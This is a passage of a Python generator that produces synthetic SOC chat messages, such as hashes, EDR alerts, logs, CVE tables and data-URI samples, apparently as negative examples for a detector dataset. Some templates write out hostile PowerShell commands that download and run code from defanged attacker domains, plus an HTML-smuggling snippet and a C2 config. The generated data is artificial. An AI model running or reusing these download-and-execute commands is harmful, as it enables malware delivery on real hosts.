            "suricata: bump ET open to latest", "kql: exclude SCCM from encoded powershell hunt", "zeek: log ja4 in ssl.log",
            "ci: pin sigma-cli", "docs: update triage runbook for OneNote lures", "sigma: new rule for rundll32 comsvcs MiniDump",
            "yara: fix false positive on signed installers", "playbooks: isolate host on high-confidence stealer verdict",
            "revert \"kql: tighten threshold\"", "misp: sync feed list", "velociraptor: add offline collector config"]
    lines = ["%s %s" % (hexs(R.choice([7, 8, 10])), m) for m in sample(msgs, R.randint(5, 10))]
    head = hexs(40)
    return ("detection-rules main is at %s, deploy pipeline picked it up:\n%s" % (head, fence("$ git log --oneline -n %d\n" % len(lines) + "\n".join(lines))))


def nb_docker():
    imgs = ["velociraptor", "thehive", "cortex", "misp-core", "zeek", "suricata", "plaso", "yara-scanner", "capa", "sigma-cli"]
    out = []
    for im in sample(imgs, R.randint(2, 5)):
        out.append("%s/%s@sha256:%s" % (pick(["ghcr.io/soc-tools", "registry.soc.internal/dfir", "docker.io/secops"]), im, hexs(64)))
    return pick(["pinned the DFIR images by digest after the supply-chain scare:", "images for the forensic workstation build:",
                 "Bitte nur diese Digests deployen:"]) + "\n" + fence("\n".join(out))


def nb_edr_tree():
    h = win_host()
    chain = [("explorer.exe", None), ("outlook.exe", None), (pick(["winword.exe", "onenote.exe", "mshta.exe", "wscript.exe"]), None),
             (pick(["rundll32.exe", "regsvr32.exe", "powershell.exe"]), None), (pick(["cmd.exe", "whoami.exe", "nltest.exe"]), None)]
    out = ["host: %s   alert: %s   severity: high" % (h, pick(["Suspicious child of Office app", "Possible loader execution", "LOLBin proxy execution"]))]
    ind = ""
    for name, _ in chain:
        out.append("%s└─ %s  pid=%d  guid={%s}\n%s   sha256=%s" % (ind, name, R.randint(400, 20000), uuid4(True), ind, hexs(64)))
        ind += "  "
    return fence("\n".join(out))


def nb_authenticode():
    return ("sigcheck on the dropped DLL — signed, but with a cert that was revoked last week:\n```\n"
            "Verified:       A certificate was explicitly revoked by its issuer.\n"
            "Signing date:   %s\nPublisher:      %s\nSerial:         %s\nThumbprint:     %s\n"
            "MD5:            %s\nSHA1:           %s\nSHA256:         %s\nIMP:            %s\n```" %
            (rtime().strftime("%H:%M %d/%m/%Y"), pick(["Shenzhen Kaidun Tech Co., Ltd.", "TOV Prodsoft", "Nordvik Media ApS", "Blue Harbor Software LLC"]),
             hexs(32, True), hexs(40, True), hexs(32, True), hexs(40, True), hexs(64, True), hexs(32, True)))


def nb_encoded_ps():
    dom = bad_domain()
    script = pick([
        "$u='%s';IEX (New-Object Net.WebClient).DownloadString($u)" % defang_url(dom, "/a.ps1"),
        "Start-Sleep -s %d; $p=\"$env:TEMP\\%s.dll\"; iwr '%s' -OutFile $p; rundll32 $p,DllRegisterServer" % (R.randint(5, 90), rs(LO, 6), defang_url(dom, "/d.bin")),
        "Get-Process | Out-File $env:TEMP\\p.txt; Get-NetIPConfiguration | Out-File -Append $env:TEMP\\p.txt"])
    enc = b64(script.encode("utf-16-le"))
    return ("Sysmon EID 1 on %s:\n```\nCommandLine: powershell.exe -nop -w hidden -EncodedCommand %s\n```\n"
            "decoded (UTF-16LE) → `%s`" % (win_host(), enc, script.replace("`", "'")))


def nb_misp():
    ev = {"Event": {"uuid": uuid4(), "info": "%s campaign — %s" % (pick(FAMILIES), rtime().strftime("%Y-%m-%d")),
                    "threat_level_id": str(R.randint(1, 3)), "analysis": "2", "distribution": "1",
                    "Attribute": [{"uuid": uuid4(), "type": t, "category": "Payload delivery", "to_ids": True, "value": v}
                                  for t, v in [("sha256", hexs(64)), ("md5", hexs(32)), ("filename|sha1", "%s|%s" % (mal_file(), hexs(40))),
                                               ("domain", defang_dom(bad_domain()))][:R.randint(2, 4)]],
                    "Tag": [{"name": tlp().lower()}, {"name": "misp-galaxy:mitre-attack-pattern=\"Phishing - T1566\""}]}}
    return "MISP export for the sharing group:\n" + fence(json.dumps(ev, indent=1), "json")


def nb_fuzzy():
    rows = ["%-10s %s" % ("sample_%02d" % i, "%d:%s:%s" % (pick([3072, 6144]), rs(B64C, R.randint(40, 64)), rs(B64C, R.randint(20, 40)))) for i in range(R.randint(4, 8))]
    return ("ssdeep of the %d variants, clustering says two groups at score ≥ 60:\n" % len(rows)) + fence("\n".join(rows))


def nb_dkim():
    dom = pick(["nordwind-logistik.de", "brightmoor-supply.com", "castellan-advisory.co.uk", "lumenfield.io", "halden-freight.no"])
    sel = pick(["selector1", "s1", "google", "k1", "mx2025"])
    p = b64(spki_rsa(pick([1024, 2048])))
    bh = b64(rbytes(32))
    b = "".join(wrap(b64(rbytes(256)), 76))
    if chance(0.5):
        return ("DKIM checks out for the vendor domain, so the BEC came from their real tenant, not a lookalike:\n```\n$ dig +short TXT %s._domainkey.%s\n\"v=DKIM1; k=rsa; p=%s\"\n```" % (sel, dom, p))
    return ("header from the reported mail:\n```\nDKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=%s; s=%s;\n t=%d; bh=%s;\n h=From:To:Subject:Date:Message-ID;\n b=%s\nAuthentication-Results: mx.soc.internal; dkim=pass header.d=%s; spf=pass; dmarc=pass\n```" % (dom, sel, epoch(rtime()), bh, b, dom))


def aroa():
    return pick(["AROA", "AIDA"]) + rs(B32U, 17)


def nb_cloudtrail():
    ev = {"eventVersion": "1.09", "userIdentity": {"type": "AssumedRole", "principalId": aroa() + ":" + pick(["soar-enrichment", "guardduty-responder", "ir-readonly"]),
                                                    "arn": "arn:aws:sts::123456789012:assumed-role/IR-Readonly/ir-session"},
          "eventTime": iso(rtime(), False), "eventSource": pick(["s3.amazonaws.com", "iam.amazonaws.com", "sts.amazonaws.com"]),
          "eventName": pick(["GetObject", "ListAccessKeys", "GetCallerIdentity", "DescribeInstances"]), "awsRegion": pick(["eu-west-1", "us-east-1", "eu-central-1"]),
          "sourceIPAddress": pick(["AWS Internal", doc_ip(), priv_ip()]), "requestID": uuid4(), "eventID": uuid4(),
          "readOnly": True, "recipientAccountId": "123456789012"}
    return "CloudTrail record (our own IR role, expected):\n" + fence(json.dumps(ev, indent=2), "json")


def nb_ransom():
    onion = rs(B32L, 56)
    tox = hexs(76, True)
    btc = "bc1q" + rs("qpzry9x8gf2tvdw0s3jn54khce6mua7l", 38)
    return ("ransom note (README-%s.txt) IOCs — do NOT contact, legal/insurer decide:\n"
            "• leak site: hxxp://%s[.]onion\n• Tox: %s\n• BTC: %s\n• note sha256: %s" % (rs(UP + DIG, 6), onion, tox, btc, hexs(64)))


def nb_velo():
    cid = "C." + hexs(16)
    out = ["hunt H.%s started, artifacts: Windows.KapeFiles.Targets, Windows.Detection.Yara.Process" % rs(UP + DIG, 13)]
    for _ in range(R.randint(3, 7)):
        out.append("  client %s  flow F.%s  state=%s  uploaded=%d files" % ("C." + hexs(16), rs(UP + DIG, 13), pick(["FINISHED", "RUNNING", "ERROR"]), R.randint(0, 400)))
    return "Velociraptor status for %s:\n%s" % (cid, fence("\n".join(out)))


def nb_b64_config():
    cfg = {"sleep": pick([30000, 60000, 120000]), "jitter": R.randint(5, 40), "uri": pick(["/api/v2/sync", "/jquery-3.3.1.min.js", "/cdn/stat"]),
           "ua": "Mozilla/5.0", "kill_date": rtime().strftime("%Y-%m-%d"), "id": rs(ALNUM, 8)}
    blob = b64(json.dumps(cfg, separators=(",", ":")).encode())
    return ("the C2 response body is just base64 JSON (beacon settings, nothing sensitive):\n`%s`\ndecodes to `%s`" %
            (blob, json.dumps(cfg, separators=(",", ":"))))


def nb_yara_hash():
    name = "MAL_%s_%s" % (pick(FAMILIES).replace(" ", ""), pick(["Loader", "Stage2", "Dropper", "Config"]))
    hs = [hexs(64) for _ in range(R.randint(2, 5))]
    hexstr = " ".join(hexs(2, True) for _ in range(R.randint(12, 24)))
    body = ("import \"hash\"\n\nrule %s {\n  meta:\n    date = \"%s\"\n    tlp = \"%s\"\n  strings:\n    $op = { %s }\n  condition:\n"
            "    uint16(0) == 0x5A4D and ($op or %s)\n}" % (name, rtime().strftime("%Y-%m-%d"), tlp(), hexstr,
                                                        " or ".join("hash.sha256(0, filesize) == \"%s\"" % h for h in hs)))
    return fence(body, "yara")


def nb_vt():
    h = hexs(64)
    return pick(["VT: https://www.virustotal.com/gui/file/%s/detection — %d/72, first seen %s" % (h, R.randint(3, 60), rtime().strftime("%Y-%m-%d")),
                 "%s → %d/%d engines, tags: %s" % (h, R.randint(1, 60), R.randint(60, 75), ", ".join(sample(["peexe", "signed", "overlay", "detect-debug-environment", "long-sleeps", "64bits"], 3)))])


def nb_sigma_ids():
    rows = ["- %s  %s" % (uuid4(), pick(["proc_creation_win_rundll32_comsvcs", "net_connection_win_susp_port", "registry_set_wdigest",
                                        "proc_access_win_lsass_susp", "file_event_win_onenote_child", "dns_query_win_tor"])) for _ in range(R.randint(3, 7))]
    return "rule ids touched by PR #%d (for the changelog):\n%s" % (R.randint(100, 2999), "\n".join(rows))


def nb_tls_ja4():
    return ("JA4 %s / JA4S %s, JARM %s — same triple on %d hosts this week" %
            ("t13d%d%02dh2_%s_%s" % (R.randint(10, 19), R.randint(5, 20), hexs(12), hexs(12)), "t130%d00_%s_%s" % (R.randint(1, 3), hexs(4), hexs(12)),
             hexs(62), R.randint(2, 40)))


def nb_memdump():
    out = ["$ sha256sum %s.raw %s.E01" % (win_host(), "EV-%d-%04d" % (R.randint(2024, 2026), R.randint(1, 999)))]
    out.append("%s  mem.raw" % hexs(64))
    out.append("%s  disk.E01" % hexs(64))
    out.append("$ md5sum mem.raw\n%s  mem.raw" % hexs(32))
    return "acquisition hashes, matches what the collector logged:\n" + fence("\n".join(out))


NB_T = [nb_hash_table, nb_sandbox_json, nb_ssh_fp, nb_authorized_keys, nb_pgp, nb_cert, nb_zeek_ssl, nb_suricata_eve,
        nb_gitlog, nb_docker, nb_edr_tree, nb_authenticode, nb_encoded_ps, nb_misp, nb_fuzzy, nb_dkim, nb_cloudtrail,
        nb_ransom, nb_velo, nb_b64_config, nb_yara_hash, nb_vt, nb_sigma_ids, nb_tls_ja4, nb_memdump]


# =============================================================== NEGATIVES: pii_lookalike_number
EVENT_IDS = [(4624, "logon"), (4625, "failed logon"), (4648, "explicit creds"), (4672, "special privs"), (4688, "process create"),
             (4720, "user created"), (4728, "added to global group"), (4732, "added to local group"), (4768, "TGT requested"),
             (4769, "service ticket"), (4771, "pre-auth failed"), (4776, "NTLM validation"), (7045, "service installed"), (1102, "log cleared")]


def pn_eventids():
    rows = []
    for eid, desc in sample(EVENT_IDS, R.randint(5, 10)):
        a = rtime()
        rows.append("| %d | %s | %s | %s | %s |" % (eid, desc, format(R.randint(1, 480000), ","), sp(a), sp(a + datetime.timedelta(seconds=R.randint(60, 90000)))))
    return ("Event counts on %s for the last 24h:\n| EventID | meaning | count | first | last |\n|---:|---|---:|---|---|\n%s" % (win_host(), "\n".join(rows)))


def pn_fastlog():
    out = []
    for _ in range(R.randint(3, 12)):
        t = rtime()
        out.append("%s.%06d  [**] [1:%d:%d] ET %s [**] [Classification: %s] [Priority: %d] {TCP} %s:%d -> %s:%d" % (
            t.strftime("%m/%d/%Y-%H:%M:%S"), t.microsecond, R.randint(2000000, 2059999), R.randint(1, 9),
            pick(["MALWARE %s CnC Activity" % pick(FAMILIES), "POLICY Observed DNS Query to .top TLD", "INFO Suspicious Empty SSL Certificate",
                  "HUNTING Suspicious User-Agent"]), pick(["A Network Trojan was detected", "Potentially Bad Traffic", "Misc activity"]),
            R.randint(1, 3), priv_ip(), R.randint(49152, 65535), doc_ip(), pick([443, 80, 53, 8443])))
    return fence("\n".join(out))


CVES = [("CVE-2024-3400", "PAN-OS GlobalProtect", "10.0", "CWE-77"), ("CVE-2023-4966", "NetScaler ADC", "9.4", "CWE-119"),
        ("CVE-2024-21762", "FortiOS SSL-VPN", "9.8", "CWE-787"), ("CVE-2023-34362", "MOVEit Transfer", "9.8", "CWE-89"),
        ("CVE-2024-1709", "ScreenConnect", "10.0", "CWE-288"), ("CVE-2023-46805", "Ivanti Connect Secure", "8.2", "CWE-287"),
        ("CVE-2024-21887", "Ivanti Connect Secure", "9.1", "CWE-77"), ("CVE-2021-44228", "Log4j", "10.0", "CWE-502"),
        ("CVE-2023-22515", "Confluence DC", "10.0", "CWE-20"), ("CVE-2024-6387", "OpenSSH regreSSHion", "8.1", "CWE-364"),
        ("CVE-2024-47575", "FortiManager", "9.8", "CWE-306"), ("CVE-2025-0282", "Ivanti Connect Secure", "9.0", "CWE-121"),
        ("CVE-2023-20198", "IOS XE Web UI", "10.0", "CWE-420"), ("CVE-2024-55956", "Cleo Harmony", "9.8", "CWE-276")]


def pn_cve_table():
    rows = []
    for c, prod, cvss, cwe in sample(CVES, R.randint(4, 8)):
        rows.append("| %s | %s | %s | %s | %.5f | %s | %d |" % (c, prod, cvss, cwe, R.random(), pick(["yes", "no"]), R.randint(0, 140)))
    return ("%s\n| CVE | product | CVSS | CWE | EPSS | KEV | hosts |\n|---|---|---:|---|---:|---|---:|\n%s" %
            (pick(["Weekly exposure table for the vuln sync:", "Vuln-Übersicht für den Jour fixe:", "脆弱性の週次サマリ:", "Tabela podatności na ten tydzień:"]), "\n".join(rows)))


def pn_nessus():
    out = ["Plugin ID  Severity  Host            Port      Name"]
    for _ in range(R.randint(5, 14)):
        out.append("%-9d  %-8s  %-14s  %-8s  %s" % (R.randint(10000, 210000), pick(["Critical", "High", "Medium", "Low", "Info"]), priv_ip(),
                                                  "%d/tcp" % pick([22, 443, 445, 3389, 8443, 5985, 1433, 8080]),
                                                  pick(["SMB Signing not required", "TLS Version 1.0 Protocol Detection", "OpenSSH < 9.8 RCE",
                                                        "Microsoft Windows Unquoted Service Path", "SSL Certificate Expiry", "Apache Tomcat Default Files"])))
    return "scan %d finished (%d hosts, %d min):\n%s" % (R.randint(100, 9999), R.randint(20, 900), R.randint(5, 300), fence("\n".join(out)))


def pn_timeline():
    t = rtime()
    out = ["datetime,MACB,source,mft_entry,seq,size,path"]
    for _ in range(R.randint(12, 30)):
        t += datetime.timedelta(seconds=R.randint(0, 400), microseconds=R.randint(0, 999999))
        out.append("%s,%s,%s,%d,%d,%d,%s" % (t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z", pick(["MACB", "M...", ".A..", "..C.", "MAC.", "...B"]),
                                              pick(["FILE", "MFT", "LNK", "PREFETCH", "EVTX", "REG"]), R.randint(40, 900000), R.randint(1, 40),
                                              R.randint(0, 40000000),
                                              pick(["C:\\Users\\Public\\%s.dll" % rs(LO, 6), "C:\\Windows\\Prefetch\\RUNDLL32.EXE-%s.pf" % hexs(8, True),
                                                    "C:\\ProgramData\\%s\\%s.exe" % (rs(LO, 5), rs(LO, 7)), "C:\\Windows\\Temp\\%s.tmp" % rs(UP + DIG, 6),
                                                    "C:\\Users\\Default\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\%s.lnk" % mal_file()])))
    return "super-timeline slice for %s around first execution (psort, UTC):\n%s" % (win_host(), fence("\n".join(out), "csv"))


def pn_handover():
    a = rtime()
    return ("*Handover %s → %s*\n• %s (P%d) open since %s UTC, %d hosts in scope, %d contained, dwell ≈ %d d\n"
            "• CHG%07d raised for the perimeter block, CAB at %02d:00\n• case #%d in the IR platform, %d observables, %d tasks open\n"
            "• next update %02d:%02d, bridge 0%d" %
            (pick(["night", "EMEA", "APAC"]), pick(["day", "AMER", "EMEA"]), inc(), R.randint(1, 3), sp(a), R.randint(2, 60), R.randint(0, 10),
             R.randint(1, 40), R.randint(10000, 99999), R.randint(8, 18), R.randint(1000, 9999), R.randint(4, 300), R.randint(1, 20),
             R.randint(8, 20), pick([0, 15, 30, 45]), R.randint(1, 4)))


def pn_filetime():
    t = rtime()
    ft = nonluhn(str((epoch(t) + 11644473600) * 10000000 + R.randint(0, 9999999)))
    ms = nonluhn(str(epoch(t) * 1000 + R.randint(0, 999)))
    return ("timestamps from the registry key LastWrite: FILETIME %s → %s UTC; the EDR shows %s (epoch ms), "
            "so the two agree within a second" % (ft, sp(t), ms))


def pn_pslist():
    out = ["PID\tPPID\tImageFileName\tOffset(V)\tThreads\tHandles\tSessionId\tWow64\tCreateTime"]
    pid = R.randint(300, 900)
    for name in ["System", "smss.exe", "csrss.exe", "wininit.exe", "lsass.exe", "svchost.exe", "explorer.exe",
                 pick(["rundll32.exe", "regsvr32.exe", "mshta.exe"]), pick(["cmd.exe", "powershell.exe"]), "conhost.exe"][:R.randint(6, 10)]:
        ppid = pid
        pid = R.randint(4, 12000) // 4 * 4
        out.append("%d\t%d\t%s\t0xffff%s\t%d\t%d\t%s\tFalse\t%s UTC+0000" % (pid, ppid, name, hexs(12), R.randint(1, 80), R.randint(20, 3000),
                                                                         pick(["0", "1", "N/A"]), sp(rtime())))
    return "vol -f mem.raw windows.pslist (trimmed):\n" + fence("\n".join(out))


def pn_fw():
    out = []
    for _ in range(R.randint(4, 10)):
        out.append("%s deny rule=%d src=%s:%d dst=%s:%d proto=%s bytes_out=%d pkts=%d" % (
            iso(rtime()), R.randint(1, 4000), priv_ip(), R.randint(1024, 65535), doc_ip(), pick([443, 8443, 4444, 53, 22, 3389]),
            pick(["tcp", "udp"]), R.randint(0, 90000), R.randint(1, 900)))
    return "egress denies towards the C2 range after the block went in:\n" + fence("\n".join(out))


def pn_kb():
    b = pick(["22631", "19045", "26100", "20348", "17763"])
    return ("patch compliance: %s missing on %d/%d hosts; build 10.0.%s.%d vs target 10.0.%s.%d; EDR sensor %d.%d.%d.0 on %d%%" %
            ("KB50%05d" % R.randint(10000, 99999), R.randint(1, 400), R.randint(400, 9000), b, R.randint(1000, 5000), b,
             R.randint(5000, 6000), R.randint(6, 7), R.randint(1, 60), R.randint(17000, 19999), R.randint(60, 99)))


def pn_sections():
    out = ["Name     VirtAddr   VirtSize   RawSize    Entropy"]
    va = 0x1000
    for n in [".text", ".rdata", ".data", ".pdata", ".rsrc", ".reloc"][:R.randint(4, 6)]:
        vs = R.randint(0x200, 0x90000)
        out.append("%-8s 0x%08x 0x%08x 0x%08x %.2f" % (n, va, vs, (vs + 0x1ff) // 0x200 * 0x200, R.uniform(0.5, 7.99)))
        va += (vs + 0xfff) // 0x1000 * 0x1000
    return "PE sections of the loader (.rsrc entropy looks packed):\n" + fence("\n".join(out))


def pn_nmap():
    out = ["Nmap scan report for %s" % priv_ip(), "Host is up (0.%04ds latency)." % R.randint(1, 9999), "PORT      STATE  SERVICE"]
    for p in sorted(sample([22, 80, 135, 139, 443, 445, 3389, 5985, 8080, 8443, 9200], R.randint(3, 7))):
        out.append("%-9s %-6s %s" % ("%d/tcp" % p, pick(["open", "filtered"]), pick(["ssh", "http", "msrpc", "https", "microsoft-ds", "ms-wbt-server"])))
    out.append("Nmap done: 1 IP address (1 host up) scanned in %.2f seconds" % R.uniform(1, 90))
    return "re-scan of the DMZ box after patching:\n" + fence("\n".join(out))


def pn_metrics():
    rows = []
    for w in range(R.randint(4, 8)):
        rows.append("| W%02d | %s | %d | %d | %.1f | %.1f |" % (R.randint(1, 52), format(R.randint(1000, 90000), ","), R.randint(5, 200),
                                                               R.randint(100, 9000), R.uniform(1, 90), R.uniform(0.5, 48)))
    return ("SOC KPIs for the monthly deck:\n| week | alerts | TP | FP | MTTD (min) | MTTR (h) |\n|---|---:|---:|---:|---:|---:|\n" + "\n".join(rows))


def pn_custody():
    n = R.randint(2024, 2026)
    sectors = R.randint(200000000, 2000000000)
    return ("Chain of custody\nItem: EV-%d-%04d   Seal: %07d   Bag: %s\nDevice: %s, S/N %s\nSize: %s bytes (%d sectors × 512)\n"
            "Acquired: %s UTC by on-site responder (badge %05d)\nSHA-1: %s\nVerified: yes" %
            (n, R.randint(1, 999), R.randint(100000, 9999999), "B-%05d" % R.randint(1, 99999), pick(["NVMe SSD 512 GB", "SATA SSD 1 TB", "USB stick 64 GB"]),
             pick(["WD-", "S4EW", "2043"]) + rs(UP + DIG, 10), format(sectors * 512, ","), sectors, sp(rtime()), R.randint(10000, 99999), hexs(40)))


def pn_ransom_amounts():
    btc = R.randint(5, 90)
    return ("negotiation notes: demand %d BTC (≈ %s USD at the time), discount offered to %d%% if paid within %d h; timer on the leak site shows %dd %02dh %02dm"
            % (btc, format(btc * R.randint(55000, 98000), ","), R.randint(20, 60), R.randint(24, 96), R.randint(1, 9), R.randint(0, 23), R.randint(0, 59)))


def pn_sysmon():
    return ("```\nEventID: 1\nUtcTime: %s\nProcessGuid: {%s}\nProcessId: %d\nImage: C:\\Windows\\System32\\rundll32.exe\nParentProcessId: %d\n"
            "LogonId: 0x%X\nTerminalSessionId: %d\nIntegrityLevel: %s\nHashes: SHA256=%s,IMPHASH=%s\n```" %
            (sp(rtime()) + ".%03d" % R.randint(0, 999), uuid4(True), R.randint(100, 30000), R.randint(100, 30000), R.randint(0x3e7, 0xffffff),
             R.randint(0, 3), pick(["Medium", "High", "System"]), hexs(64, True), hexs(32, True)))


def pn_cvss():
    vec = "CVSS:3.1/AV:%s/AC:%s/PR:%s/UI:%s/S:%s/C:%s/I:%s/A:%s" % (pick("NAL"), pick("LH"), pick("NLH"), pick("NR"), pick("UC"), pick("HLN"), pick("HLN"), pick("HLN"))
    return "%s scored %s (%.1f), EPSS %.2f%%, advisory rev %d.%d, fixed in %d.%d.%d" % (pick(CVES)[0], vec, R.uniform(4, 10), R.uniform(0.1, 97), R.randint(1, 3), R.randint(0, 9), R.randint(7, 18), R.randint(0, 9), R.randint(1, 40))


def pn_slack_ts():
    t = rtime()
    return ("the alert thread is ts %d.%06d (%s UTC), the SOAR run id %d — link both in the ticket" % (epoch(t), R.randint(0, 999999), sp(t), R.randint(10 ** 8, 10 ** 9)))


def pn_zeek_dns():
    out = ["#fields\tts\tuid\tid.orig_h\tquery\tqtype_name\trcode_name\tTTLs\ttrans_id\trtt"]
    for _ in range(R.randint(4, 10)):
        t = rtime()
        out.append("%d.%06d\t%s\t%s\t%s\tA\t%s\t%s\t%d\t%.6f" % (epoch(t), t.microsecond, zeek_uid(), priv_ip(), defang_dom(bad_domain()),
                                                               pick(["NOERROR", "NXDOMAIN"]), "%d.000000" % pick([60, 300, 3600]), R.randint(1, 65535), R.uniform(0, 0.3)))
    return "dns.log — the DGA-ish lookups every 5 min:\n" + fence("\n".join(out))


def pn_dwell():
    return ("dwell-time stats for the %d incidents closed this quarter: median %.1f d, p90 %.1f d, max %d d; containment median %d min; %d of %d detected by EDR first"
            % (R.randint(10, 90), R.uniform(1, 20), R.uniform(10, 60), R.randint(60, 300), R.randint(10, 200), R.randint(5, 50), R.randint(50, 90)))


PN_T = [pn_eventids, pn_fastlog, pn_cve_table, pn_nessus, pn_timeline, pn_handover, pn_filetime, pn_pslist, pn_fw, pn_kb,
        pn_sections, pn_nmap, pn_metrics, pn_custody, pn_ransom_amounts, pn_sysmon, pn_cvss, pn_slack_ts, pn_zeek_dns, pn_dwell]


# =============================================================== NEGATIVES: data_uri_base64
def trunc(s, keep):
    if len(s) <= keep:
        return s
    return s[:keep] + pick(["…", "...", "…[%d more chars]" % (len(s) - keep)])


def du_phish_logo():
    dom = bad_domain()
    return ("extracted from the HTML attachment (%s), the logo is inline so nothing loads remotely:\n```html\n"
            "<div class=\"logo\"><img src=\"data:image/png;base64,%s\" alt=\"\" width=\"108\"></div>\n"
            "<form action=\"%s\" method=\"post\">\n```" % (pick(["Remittance.html", "Voicemail.htm", "DocuShare.html"]), png_b64(), defang_url(dom, "/submit.php")))


def du_gif():
    return ("the .eml body has a 1×1 spacer, not a remote tracker:\n`<img src=\"data:image/gif;base64,%s\" width=\"1\" height=\"1\" alt=\"\">`" % gif_b64())


def du_smuggle():
    z = b64(tiny_zip(pick(["readme.txt", "notice.txt"]), pick(["This archive was produced by the phishing simulation.", "Placeholder file for the smuggling test.", "test"])))
    return ("HTML smuggling test page from the red-team exercise (harmless zip inside):\n```js\nconst blob = \"data:application/zip;base64,%s\";\n"
            "const a = document.createElement(\"a\");\na.href = blob;\na.download = \"Invoice_%d.zip\";\na.click();\n```" % (z, R.randint(1000, 99999)))


def du_favicon():
    return "phishing kit favicon — hashing it for the favicon-hash hunt:\n```html\n<link rel=\"icon\" href=\"data:image/x-icon;base64,%s\">\n```" % ico_b64()


def du_svg():
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d"><rect width="100%%" height="100%%" fill="#%s"/><text x="4" y="14" font-size="12">%s</text></svg>' % (
        R.randint(40, 200), R.randint(20, 80), hexs(6), pick(["Secure message", "Fax received", "Scan ready", "View document"]))
    return ("SVG attachment from the reported mail, rendered inline:\n`data:image/svg+xml;base64,%s`" % b64(svg.encode()))


def du_text_html():
    html = "<!DOCTYPE html><html><head><title>%s</title></head><body><h1>%s</h1><p>Please wait...</p></body></html>" % (
        pick(["Document", "Loading", "Shared file"]), pick(["Preview unavailable", "Redirecting", "Session expired"]))
    return ("the QR code decodes to a data URL rather than a link — it's just a landing stub:\n%s" % fence("data:text/html;base64," + b64(html.encode())))


def du_jupyter():
    cell = {"output_type": "display_data", "data": {"image/png": png_b64(16, 40), "text/plain": ["<Figure size 640x480 with 1 Axes>"]},
            "metadata": {"needs_background": "light"}}
    return "the hunting notebook diff is huge because of this output cell, please clear outputs before committing:\n" + fence(json.dumps(cell, indent=1), "json")


def du_font():
    f = woff2_b64(R.randint(60, 180))
    return ("CSS from the phishing kit (it embeds its own font):\n```css\n@font-face {\n  font-family: \"SegoeLike\";\n  src: url(data:font/woff2;base64,%s) format(\"woff2\");\n}\n```" % trunc(f, R.randint(80, 200)))


def du_pdf():
    p = b64(mini_pdf(pick(["Quarterly statement", "Remittance advice", "Shipment notice"])))
    return ("dropped file preview from the sandbox (decoy PDF, no JS, no embedded files):\n%s" % fence("data:application/pdf;base64," + p))


def du_csp():
    return ("console on the SOC portal after the CSP change:\n```\nRefused to load the image 'data:image/png;base64,%s' because it violates the following Content Security Policy directive: \"img-src 'self'\".\n```" % trunc(png_b64(), R.randint(60, 120)))


def du_chrome_history():
    nrow = R.randint(3, 6)
    out = ["sqlite> SELECT id, substr(url,1,120), visit_count, last_visit_time FROM urls ORDER BY last_visit_time DESC LIMIT %d;" % nrow]
    for i in range(nrow):
        u = pick(["data:text/html;base64," + b64(b"<html><body>Loading...</body></html>"), "data:image/png;base64," + png_b64(4, 6),
                  defang_url(bad_domain()), "chrome://newtab/"])
        out.append("%d|%s|%d|%s" % (R.randint(100, 9000), u[:120], R.randint(1, 9), nonluhn(str(epoch(rtime()) * 1000000 + 11644473600000000))))
    return "Chrome History from the triage image:\n" + fence("\n".join(out))


def du_markdown():
    return ("## %s — alert volume\n\n![alerts per hour](data:image/png;base64,%s)\n\nPeak at %02d:00 UTC, mostly the same Sigma rule." % (inc(), png_b64(8, 24), R.randint(0, 23)))


def du_smartscreen():
    return ("SmartScreen event %d on %s: blocked navigation to data:text/html;base64,%s (%s)" %
            (R.randint(1000, 1100), win_host(), b64(("<script>location='%s'</script>" % defang_url(bad_domain())).encode()), pick(["UnsafeContent", "Phishing", "Malicious"])))


def du_cyberchef():
    inner = "data:image/gif;base64," + gif_b64()
    return ("CyberChef link for T1 to decode it themselves: https://gchq.github.io/CyberChef/#recipe=From_Base64('A-Za-z0-9%%2B/%%3D',true)&input=%s" %
            b64(inner.encode()).rstrip("="))


def du_mime():
    body = "\n".join(wrap(jpeg_b64(R.randint(150, 500)), 76))
    return ("signature image part from the .eml (harmless logo):\n```\n--_004_%s_\nContent-Type: image/jpeg; name=\"image001.jpg\"\nContent-ID: <image001.jpg>\nContent-Transfer-Encoding: base64\n\n%s\n```" % (hexs(20, True), body))


def du_grafana():
    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16"><circle cx="8" cy="8" r="7" fill="#%s"/></svg>' % hexs(6)
    enc = svg.replace("<", "%3C").replace(">", "%3E").replace('"', "'").replace("#", "%23").replace(" ", "%20")
    return "SOC wallboard panel JSON (logo inline, both forms):\n" + fence(json.dumps({"type": "text", "options": {"content": "<img src=\"data:image/svg+xml;base64,%s\"> <img src=\"data:image/svg+xml;utf8,%s\">" % (b64(svg.encode()), enc)}}, indent=2, ensure_ascii=False), "json")


def du_webp():
    data = b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8L" + struct.pack("<I", 17) + rbytes(17) + b"\x00"
    return "thumbnail in the HAR from the phishing landing page: `\"mimeType\": \"image/webp\", \"text\": \"%s\", \"encoding\": \"base64\"` and the page used it as `url(data:image/webp;base64,%s)`" % (b64(data), b64(data))


DU_T = [du_phish_logo, du_gif, du_smuggle, du_favicon, du_svg, du_text_html, du_jupyter, du_font, du_pdf, du_csp,
        du_chrome_history, du_markdown, du_smartscreen, du_cyberchef, du_mime, du_grafana, du_webp]


# =============================================================== NEGATIVES: placeholder_example
def ph_ioc_template():
    return ("**IOC submission template** (copy, fill, post in #threat-intel)\n- Family: <family>\n- SHA256: <sha256>\n- C2: hxxps[:]//<c2-domain>[.]<tld>/<path>\n"
            "- Sender: <sender-address>\n- First seen: YYYY-MM-DDTHH:MM:SSZ\n- Ticket: INC00XXXXX\n- TLP: %s" % tlp())


def ph_handover_redacted():
    return ("handover for %s: attacker logged in as svc_%s with a valid password (value: [REDACTED], see vault item %s). "
            "Token seen in the proxy logs: Bearer <redacted>. Slack token used: xoxp-****. Reset done, MFA enforced." % (inc(), pick(["backup", "sql", "print", "scan"]), uuid4()))


def ph_env_example():
    lines = ["# .env.example for the enrichment worker — copy to .env and fill in", "VT_API_KEY=your-virustotal-api-key",
             "MISP_URL=https://misp.soc.internal", "MISP_KEY=<misp-auth-key>", "SLACK_BOT_TOKEN=xoxb-your-bot-token",
             "OPENAI_API_KEY=sk-...", "ANTHROPIC_API_KEY=sk-ant-...", "ABUSEIPDB_KEY=changeme", "GITHUB_TOKEN=ghp_xxxxxxxx",
